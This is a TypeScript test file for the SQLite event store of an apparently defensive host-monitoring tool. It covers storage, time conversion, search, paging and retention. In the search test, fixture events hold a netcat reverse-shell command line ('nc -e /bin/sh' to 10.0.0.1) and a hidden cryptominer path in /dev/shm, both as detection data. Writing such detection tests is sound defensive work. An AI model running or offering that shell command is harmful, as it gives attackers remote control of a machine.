import { type eventTypes, type VigilEvent, vigilEventSchema } from "@vigil/events";
import { validEvent } from "@vigil/events/fixtures";
import { afterEach, describe, expect, it } from "vitest";
import { testStore } from "../test-store";
import { eventsArrivedAfter, lastSeq, newestStart, queryEvents } from "./query";
import { pruneEvents, pruneOrphans } from "./retention";
import { buildRows } from "./rows";
import { nsToTime, timeToNs } from "./time";
import { EventWriter } from "./writer";

let cleanup = () => {};
afterEach(() => cleanup());

function setup() {
  const t = testStore();
  cleanup = t.cleanup;
  const writer = new EventWriter(t.store.sqlite);
  const insert = (events: VigilEvent[]) =>
    t.store.sqlite.transaction(() => {
      for (const e of events) writer.insert(t.hostId, e);
    })();
  const all = () => queryEvents(t.store.sqlite, {}, { order: "asc", limit: 1_000_000 }).events;
  return { ...t, writer, insert, all };
}

const event = (type: (typeof eventTypes)[number], changes: Record<string, unknown> = {}) =>
  vigilEventSchema.parse({ ...validEvent(type), ...changes });

/** The ids of every page of `filter`, newest first, `limit` at a time, as the explorer reads them. */
function everyPage(
  sqlite: Parameters<typeof queryEvents>[0],
  filter: Parameters<typeof queryEvents>[1],
  limit: number,
): string[] {
  const seen: string[] = [];
  let after: Parameters<typeof queryEvents>[2]["after"];
  for (;;) {
    const page = queryEvents(sqlite, filter, { order: "desc", limit, after });
    seen.push(...page.events.map((e) => e.id));
    if (!page.next) return seen;
    after = page.next;
  }
}

describe("events in SQLite", () => {
  it("keeps user names once per host and uid, an event showing the name its uid has now", () => {
    const { store, insert, all } = setup();
    const as = (uid: number, user?: string) => {
      const base = validEvent("exec") as { process: Record<string, unknown> };
      return event("exec", { process: { ...base.process, uid, ...(user ? { user } : {}) } });
    };
    insert([as(0, "root"), as(1000, "alice"), as(1000, "alice"), as(4242)]);
    expect(all().map((e) => e.process.user)).toEqual(["root", "alice", "alice", undefined]);
    expect(store.sqlite.prepare("SELECT count(*) FROM host_users").pluck().get()).toBe(2);
    insert([as(1000, "alice2")]); // renamed on the host
    expect(all().map((e) => e.process.user)).toEqual(["root", "alice2", "alice2", undefined, "alice2"]);
  });

  it("keeps agent ids compactly and any other id as given", () => {
    const { insert, all, store } = setup();
    const ids = [
      "49c5d4440c9a-16c6ec8a84ee-1092-exit",
      "49c5d4440c9a-ffffffffffffffff-1092-exit",
      "b-0abc-1092-exit",
      "b-1-1092-exec",
      "anything",
    ];
    const written = ids.map((id, i) => event("exit", { id, time: `2026-11-28T22:09:1${i}.000000000Z` }));
    insert(written);
    expect(all()).toEqual(written);
    const asText = store.sqlite
      .prepare("SELECT event_id FROM events WHERE event_id IS NOT NULL")
      .pluck()
      .all();
    expect(asText).toEqual(["b-0abc-1092-exit", "b-1-1092-exec", "anything"]);
  });

  it("converts RFC 3339 times to nanoseconds and back, in UTC", () => {
    expect(nsToTime(timeToNs("2026-11-28T22:09:18.123456789Z"))).toBe("2026-11-28T22:09:18.123456789Z");
    expect(nsToTime(timeToNs("2026-11-29T00:09:18.000000001+02:00"))).toBe("2026-11-28T22:09:18.000000001Z");
    expect(timeToNs("1970-01-01T00:00:01.000000002Z")).toBe(1_000_000_002n);
    // A leap second (which no kernel clock reports) is stored as the second after it.
    expect(nsToTime(timeToNs("2016-12-31T23:59:60.500000000Z"))).toBe("2017-01-01T00:00:00.500000000Z");
  });

  it("stores each program once however many events run it", () => {
    const { store, insert } = setup();
    insert(Array.from({ length: 50 }, (_, i) => event("fork", { id: `f${i}` })));
    const count = (table: string) => store.sqlite.prepare(`SELECT count(*) FROM ${table}`).pluck().get();
    expect(count("events")).toBe(50);
    expect(count("programs")).toBe(2); // the process's program and its parent reference
  });

  it("finds where the newest N events begin, across equal times", () => {
    const { insert, store } = setup();
    const times = ["2026-11-28T22:00:00.000000000Z", "2026-11-28T22:00:01.000000000Z"];
    insert(Array.from({ length: 25 }, (_, i) => event("exit", { id: `x${i}`, time: times[i % 2] })));
    const ids = (count: number, filter = {}) => {
      const after = newestStart(store.sqlite, filter, count);
      return queryEvents(store.sqlite, filter, { order: "asc", limit: count, after }).events.map((e) => e.id);
    };
    const byTime = queryEvents(store.sqlite, {}, { order: "asc", limit: 100 }).events.map((e) => e.id);
    for (const n of [1, 5, 12, 13, 24, 25]) expect(ids(n)).toEqual(byTime.slice(25 - n));
    expect(ids(40)).toEqual(byTime);
    expect(newestStart(store.sqlite, { pid: 1 }, 10)).toBeUndefined();
  });

  it("finds events by any substring of argv, exe or file path, and filters combine", () => {
    const { insert, store } = setup();
    const base = validEvent("exec") as { process: Record<string, unknown> };
    insert([
      event("exec", { id: "a", process: { ...base.process, argv: ["nc", "-e", "/bin/sh", "10.0.0.1"] } }),
      event("exec", { id: "b" }),
      event("unlink_running", { id: "c", file: { path: "/dev/shm/.hidden-miner", dev: 1, inode: "2" } }),
    ]);
    const ids = (filter: Parameters<typeof queryEvents>[1]) =>
      queryEvents(store.sqlite, filter, { order: "asc", limit: 10 }).events.map((e) => e.id);
    expect(ids({ q: "-e /bin" })).toEqual(["a"]);
    expect(ids({ q: "nc -e /bin/s*" })).toEqual(["a"]); // a trailing * makes the last word a prefix
    expect(ids({ q: "nc -e /bin/s" })).toEqual([]); // and only then
    expect(ids({ q: "HIDDEN-miner" })).toEqual(["c"]);
    expect(ids({ q: "HIDDEN-min *" })).toEqual(["c"]);
    expect(ids({ q: "shm/.hidden" })).toEqual(["c"]);
    expect(ids({ q: "e /bin" })).toEqual(["a"]);
    expect(ids({ q: "iner" })).toEqual([]); // words, not substrings
    expect(ids({ q: "example.com" })).toEqual(["b", "c"]); // c's process is the fixture's curl
    expect(ids({ q: "example.com", types: ["unlink_running"] })).toEqual(["c"]);
    expect(ids({ q: "example.com", types: ["ptrace"] })).toEqual([]);
    expect(ids({ q: '"quoted" OR x' })).toEqual([]);
    expect(ids({ host: "web-1", pid: 4242 })).toEqual(["a", "b", "c"]);
    expect(ids({ host: "web-2" })).toEqual([]);
  });

  it("pages a search found in many programs in time order, whether matches are dense or rare", () => {
    const { insert, store } = setup();
    const base = validEvent("exec") as { process: Record<string, unknown> };
    // 1,100 programs with "alpha" (the old half), then 1,200 with "beta" and, every 100th, "alpha" again: a search
    // for alpha reads past more programs than its look-up budget before it has a page, and SQLite finishes it.
    const written = Array.from({ length: 2_300 }, (_, i) => {
      const word = i < 1_100 || i % 100 === 0 ? "alpha" : "beta";
      return event("exec", {
        id: `e${i}`,
        time: nsToTime(1_800_000_000_000_000_000n + BigInt(i) * 1_000_000n),
        process: { ...base.process, argv: [word, `n${i}`] },
      });
    });
    insert(written);
    const newestFirst = (word: string) =>
      written
        .filter((e) => e.type === "exec" && e.process.argv[0] === word)
        .map((e) => e.id)
        .reverse();
    const pages = (q: string, limit: number) => everyPage(store.sqlite, { q }, limit);
    for (const limit of [40, 500]) {
      expect(pages("alpha", limit)).toEqual(newestFirst("alpha"));
      expect(pages("beta", limit)).toEqual(newestFirst("beta"));
    }
    expect(pages("alph*", 100)).toEqual(newestFirst("alpha"));
    expect(pages("alph", 100)).toEqual([]);
    const oldestFirst = queryEvents(store.sqlite, { q: "beta" }, { order: "asc", limit: 3 }).events;
    expect(oldestFirst.map((e) => e.id)).toEqual(newestFirst("beta").reverse().slice(0, 3));
    const page = queryEvents(store.sqlite, { q: "alpha", pid: 999 }, { order: "desc", limit: 10 });
    expect(page).toEqual({ events: [], receivedMs: [], next: null });
  }, 60_000); // thousands of rows and pages: seconds when the other test suites share the CPU

  it("pages an executable glob matching many programs in time order, whether matches are dense or rare", () => {
    const { insert, store } = setup();
    const base = validEvent("exec") as { process: Record<string, unknown>; parent: Record<string, unknown> };
    // Each command line is a program of its own. The old half runs /opt/dense, the new half /opt/other and, every
    // 100th, /opt/dense again, under /usr/sbin/sshd every 7th: pages of /opt/dense* are read walking newest first
    // until matches get too rare for the walk's budget, and SQLite's plan finishes them.
    const written = Array.from({ length: 2_300 }, (_, i) => {
      const exe = i < 1_100 || i % 100 === 0 ? "/opt/dense" : "/opt/other";
      const parentExe = i % 7 === 0 ? "/usr/sbin/sshd" : "/usr/bin/bash";
      return event(i % 3 === 0 ? "exec" : "exit", {
        id: `e${i}`,
        time: nsToTime(1_800_000_000_000_000_000n + BigInt(i) * 1_000_000n),
        process: { ...base.process, exe, filename: exe, argv: [exe, `n${i}`] },
        parent: { ...base.parent, exe: parentExe },
      });
    });
    insert(written);
    const expected = (keep: (e: (typeof written)[number]) => boolean) =>
      written
        .filter(keep)
        .map((e) => e.id)
        .reverse();
    const pages = (filter: Parameters<typeof queryEvents>[1], limit: number) =>
      everyPage(store.sqlite, filter, limit);
    const dense = (e: (typeof written)[number]) => e.process.exe === "/opt/dense";
    const underSshd = (e: (typeof written)[number]) => e.parent?.exe === "/usr/sbin/sshd";
    for (const limit of [40, 500]) {
      expect(pages({ exe: "/opt/dens*" }, limit)).toEqual(expected(dense));
      expect(pages({ exe: "/opt/oth*" }, limit)).toEqual(expected((e) => !dense(e)));
      expect(pages({ exe: "/opt/dens*", parentExe: "*/sshd" }, limit)).toEqual(
        expected((e) => dense(e) && underSshd(e)),
      );
      expect(pages({ exe: "/opt/*", types: ["exec"] }, limit)).toEqual(expected((e) => e.type === "exec"));
    }
    expect(pages({ exe: "/opt/none*" }, 100)).toEqual([]);
    const oldestFirst = queryEvents(store.sqlite, { exe: "/opt/oth*" }, { order: "asc", limit: 3 }).events;
    expect(oldestFirst.map((e) => e.id)).toEqual(
      expected((e) => !dense(e))
        .reverse()
        .slice(0, 3),
    );
  }, 60_000); // thousands of rows and pages: seconds when the other test suites share the CPU

  it("filters by verdict, uid, and globs over the executable and the parent's", () => {
    const { insert, store } = setup();
    const base = validEvent("exec") as { process: Record<string, unknown> };
    insert([
      event("exec", { id: "a" }),
      event("exec", { id: "b", verdict: "denied", process: { ...base.process, uid: 0, exe: "/tmp/x[1]" } }),
      event("exec", { id: "c", parent: { pid: 1, exe: "/usr/sbin/sshd", comm: "sshd" } }),
      event("exec", {
        id: "d",
        process: { ...base.process, exe: "/usr/bin/python3.11", filename: "/usr/bin/python3" },
      }),
    ]);
    const ids = (filter: Parameters<typeof queryEvents>[1]) =>
      queryEvents(store.sqlite, filter, { order: "asc", limit: 10 }).events.map((e) => e.id);
    expect(ids({ verdicts: ["denied"] })).toEqual(["b"]);
    expect(ids({ verdicts: ["allowed", "audit"] })).toEqual(["a", "c", "d"]);
    expect(ids({ uid: 0 })).toEqual(["b"]);
    expect(ids({ exe: "/usr/bin/*" })).toEqual(["a", "c", "d"]);
    expect(ids({ exe: "/usr/bin/python3" })).toEqual(["d"]); // the name it was run by, a link to python3.11
    expect(ids({ exe: "/tmp/x[[]1]" })).toEqual(["b"]); // brackets are a glob class; [[] is a literal [
    expect(ids({ exe: "/usr/bin/curl" })).toEqual(["a", "c"]);
    expect(ids({ exe: "*/curl", uid: 0 })).toEqual([]);
    expect(ids({ parentExe: "*sshd" })).toEqual(["c"]);
  });

  it("reads what arrived after an arrival number, in arrival order, filtered", () => {
    const { insert, store } = setup();
    insert([event("exec", { id: "a" })]);
    const start = lastSeq(store.sqlite);
    insert([event("exit", { id: "b", time: "2026-11-28T22:00:00.000000000Z" }), event("exec", { id: "c" })]);
    const arrived = eventsArrivedAfter(store.sqlite, {}, start, 10);
    expect(arrived.map((a) => a.event.id)).toEqual(["b", "c"]); // by arrival, though b's time is older
    expect(eventsArrivedAfter(store.sqlite, { types: ["exec"] }, start, 10).map((a) => a.event.id)).toEqual([
      "c",
    ]);
    expect(eventsArrivedAfter(store.sqlite, {}, arrived[0]?.seq ?? 0n, 10).map((a) => a.event.id)).toEqual([
      "c",
    ]);
    expect(eventsArrivedAfter(store.sqlite, {}, lastSeq(store.sqlite), 10)).toEqual([]);
  });

  it("prunes by age and then by count, oldest first", async () => {
    const { insert, store, all } = setup();
    const at = (s: number) => nsToTime(BigInt(s) * 1_000_000_000n);
    insert(Array.from({ length: 30 }, (_, i) => event("exit", { id: `x${i}`, time: at(1000 + i) })));
    const nowMs = 1030 * 1000;
    expect(await pruneEvents(store.sqlite, { maxAgeMs: 20_000, maxEvents: 1000 }, nowMs, { batch: 4 })).toBe(
      10,
    );
    expect(await pruneEvents(store.sqlite, { maxAgeMs: 20_000, maxEvents: 15 }, nowMs, { batch: 4 })).toBe(5);
    // A caller that keeps the count passes it: what it says is the number before this pruning.
    expect(
      await pruneEvents(store.sqlite, { maxAgeMs: 20_000, maxEvents: 12 }, nowMs, { count: () => 15 }),
    ).toBe(3);
    expect(all().map((e) => e.id)).toEqual(Array.from({ length: 12 }, (_, i) => `x${i + 18}`));
  });

  it("keeps when events reached the server, to the second, whatever the host's clock said", async () => {
    const { writer, store } = setup();
    const write = (ids: string[], time: string, nowMs: number) =>
      store.sqlite.transaction(() =>
        writer.write(1, buildRows(ids.map((id) => event("exit", { id, time }))), 0, nowMs),
      )();
    write(["a", "b"], "2026-01-01T00:00:00.000000000Z", 1_000_000);
    write(["c"], "2030-01-01T00:00:00.000000000Z", 1_002_000); // a host whose clock is years ahead
    write(["d"], "2026-11-30T00:00:00.000000000Z", 1_002_900); // the same second: no new arrival
    const received = () => {
      const page = queryEvents(store.sqlite, {}, { order: "asc", limit: 10 });
      return Object.fromEntries(page.events.map((e, i) => [e.id, page.receivedMs[i]]));
    };
    expect(received()).toEqual({ a: 1_000_000, b: 1_000_000, c: 1_002_000, d: 1_002_000 });
    expect(store.sqlite.prepare("SELECT seq FROM arrivals").pluck().all()).toEqual([1, 3]);

    // Retention by age (host time) leaves c alone: the arrival of the events it removed goes, c's stays.
    await pruneEvents(store.sqlite, { maxAgeMs: 1000, maxEvents: 1000 }, Date.parse("2027-01-01"));
    expect(received()).toEqual({ c: 1_002_000 });
    expect(store.sqlite.prepare("SELECT seq FROM arrivals").pluck().all()).toEqual([3]);
  });

  it("prunes the programs and files no event needs any more, and the writer then stores them again", async () => {
    const { insert, store, all, writer } = setup();
    const base = validEvent("exec") as { process: Record<string, unknown> };
    const run = (id: string, word: string, time: string) =>
      event("exec", {
        id,
        time,
        process: { ...base.process, argv: ["echo", word] },
        file: { path: `/bin/${word}`, dev: 1, inode: "7" },
      });
    insert([
      run("old", "vanished", "2026-01-01T00:00:00.000000000Z"),
      run("new", "kept", "2026-11-28T00:00:00.000000000Z"),
    ]);
    const count = (table: string) => store.sqlite.prepare(`SELECT count(*) FROM ${table}`).pluck().get();
    await pruneEvents(
      store.sqlite,
      { maxAgeMs: 30 * 24 * 3600 * 1000, maxEvents: 100 },
      Date.parse("2026-11-29T00:00:00Z"),
    );
    let forgotten = 0;
    expect(
      await pruneOrphans(store.sqlite, () => {
        forgotten++;
        writer.forgetIds();
      }),
    ).toBe(2);
    expect(forgotten).toBe(2);
    expect([count("programs"), count("files")]).toEqual([2, 1]); // "kept" and the parent reference
    expect(queryEvents(store.sqlite, { q: "vanished" }, { order: "asc", limit: 10 }).events).toEqual([]);
    insert([run("again", "vanished", "2026-11-28T01:00:00.000000000Z")]);
    expect(all().map((e) => e.id)).toEqual(["new", "again"]);
    expect(
      queryEvents(store.sqlite, { q: "vanished" }, { order: "asc", limit: 10 }).events.map((e) => e.id),
    ).toEqual(["again"]);
  });
});
